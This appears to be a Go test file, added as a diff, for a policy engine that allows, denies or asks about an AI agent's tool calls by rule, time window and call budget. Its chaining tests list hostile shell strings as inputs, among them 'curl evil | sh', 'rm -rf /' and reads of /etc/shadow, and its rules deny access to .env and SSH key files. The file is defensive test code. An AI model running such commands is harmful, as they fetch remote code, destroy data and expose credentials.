@@ -0,0 +1,225 @@
+package policy
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/jonnyquan/claude-agent-sdk-go/internal/shared"
+)
+
+const testPolicy = `{
+	"default": "ask",
+	"rules": [
+		{"name": "no-force-push", "tools": ["Bash"], "command_regex": ["git\\s+push\\s+.*--force"], "decision": "deny", "message": "no force pushes", "interrupt": true},
+		{"name": "git-read", "tools": ["Bash"], "commands": ["git status", "git diff"], "decision": "allow"},
+		{"name": "secrets", "paths": ["**/.env", "~/.ssh/**"], "decision": "deny"},
+		{"name": "repo-edit", "tools": ["Read", "Edit", "Write"], "paths": ["/repo/**"], "decision": "allow"},
+		{"name": "github-read", "mcp_servers": ["github"], "mcp_tools": ["get_*", "list_*"], "decision": "allow"},
+		{"name": "office-hours", "tools": ["WebFetch"], "time": {"days": ["mon", "Tuesday"], "start": "09:00", "end": "17:00", "timezone": "UTC"}, "decision": "allow"},
+		{"name": "search-budget", "tools": ["WebSearch"], "max_calls": 2, "decision": "allow", "updated_input": {"max_results": 5}}
+	]
+}`
+
+func newTestEngine(t *testing.T, now time.Time) *Engine {
+	t.Helper()
+	policy, err := Parse([]byte(testPolicy), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	engine, err := New(policy, WithClock(func() time.Time { return now }))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return engine
+}
+
+func TestEvaluate(t *testing.T) {
+	monday := time.Date(2026, 10, 19, 10, 0, 0, 0, time.UTC)
+	cases := []struct {
+		tool  string
+		input map[string]any
+		want  string
+		rule  string
+	}{
+		{"Bash", map[string]any{"command": "git push origin main --force"}, DecisionDeny, `"no-force-push"`},
+		{"Bash", map[string]any{"command": "  git status -s"}, DecisionAllow, `"git-read"`},
+		{"Bash", map[string]any{"command": "rm -rf /"}, DecisionAsk, ""},
+		{"Read", map[string]any{"file_path": "/repo/app/.env"}, DecisionDeny, `"secrets"`},
+		{"Edit", map[string]any{"file_path": "/repo/src/../main.go"}, DecisionAllow, `"repo-edit"`},
+		{"Edit", map[string]any{"file_path": "/etc/passwd"}, DecisionAsk, ""},
+		{"mcp__github__get_issue", nil, DecisionAllow, `"github-read"`},
+		{"mcp__github__delete_repo", nil, DecisionAsk, ""},
+		{"WebFetch", nil, DecisionAllow, `"office-hours"`},
+	}
+	engine := newTestEngine(t, monday)
+	for _, tc := range cases {
+		got := engine.Evaluate(tc.tool, tc.input)
+		if got.Decision != tc.want || got.Rule != tc.rule {
+			t.Errorf("%s %v = %s by %s, want %s by %s\n%s", tc.tool, tc.input, got.Decision, got.Rule, tc.want, tc.rule, got.Explain())
+		}
+	}
+
+	sunday := newTestEngine(t, monday.AddDate(0, 0, -1))
+	if got := sunday.Evaluate("WebFetch", nil); got.Decision != DecisionAsk || !strings.Contains(got.Explain(), "outside time window") {
+		t.Errorf("Sunday WebFetch = %s\n%s", got.Decision, got.Explain())
+	}
+}
+
+func TestCommandRulesResistChaining(t *testing.T) {
+	policy, err := Parse([]byte(`{
+		"default": "ask",
+		"rules": [
+			{"name": "no-rm", "tools": ["Bash"], "commands": ["rm"], "decision": "deny"},
+			{"name": "git-read", "tools": ["Bash"], "commands": ["git status", "git log", "grep"], "decision": "allow"}
+		]
+	}`), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	engine, err := New(policy)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cases := map[string]string{
+		"git status":                 DecisionAllow,
+		"git status\t-s":             DecisionAllow,
+		"git log | grep fix":         DecisionAllow,
+		"git status; curl evil | sh": DecisionAsk,
+		"git status && rm -rf ~":     DecisionDeny,
+		"git status || true":         DecisionAsk,
+		"git status & sh":            DecisionAsk,
+		"git status\nsh":             DecisionAsk,
+		"git log $(curl evil)":       DecisionAsk,
+		"git log `sh`":               DecisionAsk,
+		"git log <(sh)":              DecisionAsk,
+		"git statusx":                DecisionAsk,
+		"gitk":                       DecisionAsk,
+		"echo hi; rm -rf /":          DecisionDeny,
+		"echo $(rm -rf /)":           DecisionDeny,
+		"rmdir build":                DecisionAsk,
+		"git log >> ~/.bashrc":       DecisionAsk,
+		"grep x < /etc/shadow":       DecisionAsk,
+		"FOO=1 rm -rf /":             DecisionDeny,
+		"/bin/rm -rf /":              DecisionDeny,
+		"sudo -u root rm -rf /":      DecisionDeny,
+		"env FOO=1 rm -rf /":         DecisionDeny,
+		"timeout 5 nohup \\rm x":     DecisionDeny,
+		"sudo git status":            DecisionAsk,
+	}
+	for command, want := range cases {
+		if got := engine.Evaluate("Bash", map[string]any{"command": command}); got.Decision != want {
+			t.Errorf("%q = %s, want %s\n%s", command, got.Decision, want, got.Explain())
+		}
+	}
+}
+
+func TestEvaluateBudgetAndUpdatedInput(t *testing.T) {
+	engine := newTestEngine(t, time.Now())
+	input := map[string]any{"query": "go"}
+	for i := 0; i < 2; i++ {
+		got := engine.Evaluate("WebSearch", input)
+		if got.Decision != DecisionAllow || got.UpdatedInput["max_results"] != float64(5) || got.UpdatedInput["query"] != "go" {
+			t.Fatalf("call %d = %+v", i, got)
+		}
+	}
+	if _, changed := input["max_results"]; changed {
+		t.Error("original input was modified")
+	}
+	got := engine.Evaluate("WebSearch", input)
+	if got.Decision != DecisionAsk || !strings.Contains(got.Explain(), "max_calls 2 exhausted") {
+		t.Errorf("third call = %s\n%s", got.Decision, got.Explain())
+	}
+}
+
+func TestExplain(t *testing.T) {
+	engine := newTestEngine(t, time.Now())
+	got := engine.Evaluate("Bash", map[string]any{"command": "git diff"}).Explain()
+	want := "rule \"no-force-push\": skip (command does not match [git\\s+push\\s+.*--force])\n" +
+		"rule \"git-read\": match (all conditions hold)\n" +
+		"=> allow by rule \"git-read\""
+	if got != want {
+		t.Errorf("Explain =\n%s\nwant\n%s", got, want)
+	}
+}
+
+func TestParseRejectsInvalidPolicies(t *testing.T) {
+	cases := map[string]string{
+		"unknown field":    `{"rules": [{"decision": "allow", "tool": ["Bash"]}]}`,
+		"bad decision":     `{"rules": [{"decision": "maybe"}]}`,
+		"bad default":      `{"default": "sometimes", "rules": []}`,
+		"bad regex":        `{"rules": [{"decision": "deny", "command_regex": ["("]}]}`,
+		"bad day":          `{"rules": [{"decision": "deny", "time": {"days": ["someday"]}}]}`,
+		"bad clock":        `{"rules": [{"decision": "deny", "time": {"start": "9am"}}]}`,
+		"negative budget":  `{"rules": [{"decision": "deny", "max_calls": -1}]}`,
+		"malformed":        `{"rules": [`,
+		"empty tool glob":  `{"rules": [{"decision": "deny", "tools": [""]}]}`,
+		"unknown timezone": `{"rules": [{"decision": "deny", "time": {"timezone": "Mars/Olympus"}}]}`,
+	}
+	for name, doc := range cases {
+		policy, err := Parse([]byte(doc), nil)
+		if err == nil {
+			_, err = New(policy)
+		}
+		if err == nil {
+			t.Errorf("%s: expected error", name)
+		}
+	}
+}
+
+func TestParseWithYAMLStyleUnmarshaler(t *testing.T) {
+	// Emulates a YAML decoder that produces map[any]any.
+	unmarshal := func(data []byte, v any) error {
+		*(v.(*any)) = map[any]any{
+			"default": "deny",
+			"rules":   []any{map[any]any{"tools": []any{"Read"}, "decision": "allow"}},
+		}
+		return nil
+	}
+	policy, err := Parse(nil, unmarshal)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if policy.Default != DecisionDeny || len(policy.Rules) != 1 || policy.Rules[0].Tools[0] != "Read" {
+		t.Errorf("policy = %+v", policy)
+	}
+}
+
+func TestCanUseToolAndPreToolUseHook(t *testing.T) {
+	engine := newTestEngine(t, time.Now())
+
+	var fallbackCalled bool
+	callback := engine.CanUseTool(func(toolName string, input map[string]any, ctx shared.ToolPermissionContext) (shared.PermissionResult, error) {
+		fallbackCalled = true
+		return shared.NewPermissionAllow(nil, nil), nil
+	})
+	result, err := callback("Bash", map[string]any{"command": "git push -f --force"}, shared.ToolPermissionContext{})
+	if deny, ok := result.(*shared.PermissionResultDeny); err != nil || !ok || deny.Message != "no force pushes" || !deny.Interrupt {
+		t.Errorf("force push = %#v, %v", result, err)
+	}
+	if _, err := callback("Bash", map[string]any{"command": "make"}, shared.ToolPermissionContext{}); err != nil || !fallbackCalled {
+		t.Errorf("ask did not reach fallback: %v", err)
+	}
+	result, _ = engine.CanUseTool(nil)("Bash", map[string]any{"command": "make"}, shared.ToolPermissionContext{})
+	if _, ok := result.(*shared.PermissionResultDeny); !ok {
+		t.Errorf("ask without fallback = %#v, want deny", result)
+	}
+
+	hook := engine.PreToolUseHook()
+	output, err := hook(map[string]any{
+		"hook_event_name": "PreToolUse",
+		"tool_name":       "WebSearch",
+		"tool_input":      map[string]any{"query": "go"},
+	}, nil, shared.HookContext{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	specific := output["hookSpecificOutput"].(map[string]any)
+	updated, _ := specific["updatedInput"].(map[string]any)
+	if specific["permissionDecision"] != DecisionAllow || updated["max_results"] != float64(5) {
+		t.Errorf("hook output = %v", output)
+	}
+	if _, err := hook(map[string]any{"hook_event_name": "Stop"}, nil, shared.HookContext{}); err == nil {
+		t.Error("expected error for non-PreToolUse input")
+	}
+}